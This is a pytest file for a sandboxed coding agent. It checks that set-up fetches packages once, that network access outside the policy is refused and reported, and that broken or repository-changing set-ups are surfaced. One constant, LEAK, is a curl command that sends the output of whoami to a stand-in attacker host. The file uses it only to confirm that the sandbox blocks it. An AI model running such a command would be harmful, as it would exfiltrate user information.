"""The network of sandboxes, as people see it: set-up gets packages, and what is refused is shown."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.adapters.registry import Registry, open_registry
from tests.story.conftest import FILES, running, world_in
from tests.story.play import ask, bash, calls, submit
from tests.story.world import World

POLICY = """
setup: ["python3 tools/get.py tiny", "touch .cache/set-up && echo once >> .cache/log"]
network:
  setup: [registries]
  turn: [docs.example.org]
verify: ["PYTHONPATH=$HOME/lib python3 -c 'import tiny; assert tiny.answer == 42'"]
"""
# What pip does, without needing one in the sandbox.
GET = """
import html.parser, io, os, sys, urllib.parse, urllib.request, zipfile
page = os.environ["PIP_INDEX_URL"] + sys.argv[1] + "/"
link = urllib.request.urlopen(page).read().decode().split('href="')[1].split('"')[0]
wheel = urllib.request.urlopen(urllib.parse.urljoin(page, link)).read()
zipfile.ZipFile(io.BytesIO(wheel)).extractall(os.path.expanduser("~/lib"))
os.makedirs(".cache", exist_ok=True)
"""
LEAK = "curl -sS https://evil.example/?$(whoami); curl -sS https://docs.example.org:8443/; true"


@pytest.fixture(scope="module")
def registry() -> Iterator[Registry]:
    with open_registry() as it:
        it.put_wheel("tiny", "answer = 42")
        yield it


@pytest.fixture
def world(registry: Registry, request: pytest.FixtureRequest) -> Iterator[World]:
    """Give a repository with a set-up, and a Honk whose pip knows the registry."""
    files = {**FILES, ".github/honk.yml": POLICY, "tools/get.py": GET, ".gitignore": ".cache/\n__pycache__/\n"}
    with (
        running(PIP_INDEX_URL=f"{registry.url}/simple", PIP_CONFIG_FILE="/dev/null") as stack,
        world_in(stack, request.node.name.removeprefix("test_"), files) as it,
    ):
        yield it


def test_set_up_brings_packages_once_and_what_is_refused_is_shown(world: World, registry: Registry):
    world.when(replies=[calls(bash(LEAK)), calls(bash("cat .cache/log; echo hello > hello.txt"), submit())])
    issue = world.ask_for()
    pull = world.wait_ready()
    body = pull.issue.body or ""
    assert "python3 -c 'import tiny" in body
    assert ": passed (" in body
    assert "### Network\n\nCommands wanted to reach what the policy does not allow:" in body
    assert "- `evil.example:443`: 1 time, not in the policy" in body
    assert "- `docs.example.org:8443`: 1 time, not in the policy" in body
    assert "| Network | refused: `evil.example:443`, `docs.example.org:8443` |" in world.tracking(issue).body
    assert "refused by network policy: evil.example:443 (not in the policy)" in world.prompts()[1]
    assert "allowed here: docs.example.org" in world.prompts()[1]
    assert sorted(registry.paths()) == ["/files/tiny-1.0-py3-none-any.whl", "/simple/tiny/"]
    world.rob.review(pull, "COMMENT", "More, please.")
    world.wait("a second turn", lambda: world.turns() == 2)
    world.wait_ready()
    assert not world.has(pull.head_sha, ".cache/log")


def test_a_set_up_that_fails_is_told_to_the_agent(world: World):
    broken = POLICY.replace("get.py tiny", "get.py missing")
    world.rob.push(world.repo, "main", {".github/honk.yml": broken}, "Break the set-up")
    world.when(replies=[calls(ask("There is no such package. Which one did you mean?"))])
    issue = world.ask_for()
    world.wait_comment(issue, "There is no such package")
    (prompt,) = world.prompts()
    assert "The repository's set-up did not work:" in prompt
    assert "python3 tools/get.py missing: it ended with exit code 1" in prompt


def test_a_set_up_that_changes_the_repository_is_for_people_to_mend(world: World):
    world.rob.push(world.repo, "main", {".github/honk.yml": "setup: ['echo x >> README.md']\n"}, "Break the set-up")
    issue = world.ask_for()
    said = world.wait_comment(issue, "I stopped: the `setup`").body
    assert "changed files that git does not ignore (`README.md`)" in said
    assert world.prompts() == []
